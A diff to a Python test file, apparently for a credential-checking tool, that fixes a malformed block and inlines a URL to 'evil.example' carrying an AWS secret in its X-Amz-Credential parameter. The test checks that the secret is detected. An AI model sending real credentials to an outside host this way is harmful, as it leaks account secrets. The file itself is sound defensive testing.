@@ -105,11 +105,8 @@ def test_a_secret_in_the_place_of_the_key_id_is_named_whole() -> None:
     exchanged = healthy().with_env("AWS_ACCESS_KEY_ID", SECRET).with_env("AWS_SECRET_ACCESS_KEY", KEY_ID)
     assert "/" in SECRET
     assert signer(signed("https://s3.eu-west-2.amazonaws.com/", key_id=SECRET)) == SECRET
-    link = (
     scope = quote(f"{SECRET}/20261128/eu-west-2/s3/aws4_request", safe="")
-    link = f"https://evil.example/x?X-Amz-Credential={scope}"
-    )
-    assert signer(Call("GetObject", "GET", link)) == SECRET
+    assert signer(Call("GetObject", "GET", f"https://evil.example/x?X-Amz-Credential={scope}")) == SECRET
     assert [finding.id for finding in run(exchanged).report.findings] == ["key-pair-exchanged"]
 
 
